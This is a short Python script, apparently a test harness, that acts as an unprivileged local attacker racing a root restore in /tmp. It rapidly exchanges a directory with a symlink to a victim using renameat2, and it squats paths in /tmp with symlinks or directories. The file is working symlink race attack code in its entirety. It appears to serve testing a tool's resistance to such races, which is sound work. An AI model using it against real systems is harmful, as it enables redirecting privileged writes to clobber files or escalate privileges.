#!/usr/bin/python3
"""What a local unprivileged user does to a root restore in /tmp.

attacker.py swap DIR: in DIR (the user's own), keep exchanging DIR/app
(a directory) and DIR/link (a symlink to the victim) with
renameat2(RENAME_EXCHANGE), as fast as it can, until killed.

attacker.py squat PATH VICTIM: keep trying to be first at PATH, in the
sticky /tmp: a symlink to VICTIM, then a directory of its own, over and
over, until killed.
Prints "ready" once it runs.
"""
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2

print("ready", flush=True)
if sys.argv[1] == "swap":
    d = sys.argv[2].encode()
    os.chdir("/")
    a, b = d + b"/app", d + b"/link"
    while True:
        libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
else:
    path, victim = sys.argv[2], sys.argv[3]
    while True:
        for make in (lambda: os.symlink(victim, path), lambda: os.mkdir(path, 0o777)):
            try:
                make()
                os.rmdir(path) if os.path.isdir(path) and not os.path.islink(path) else os.unlink(path)
            except OSError:
                pass
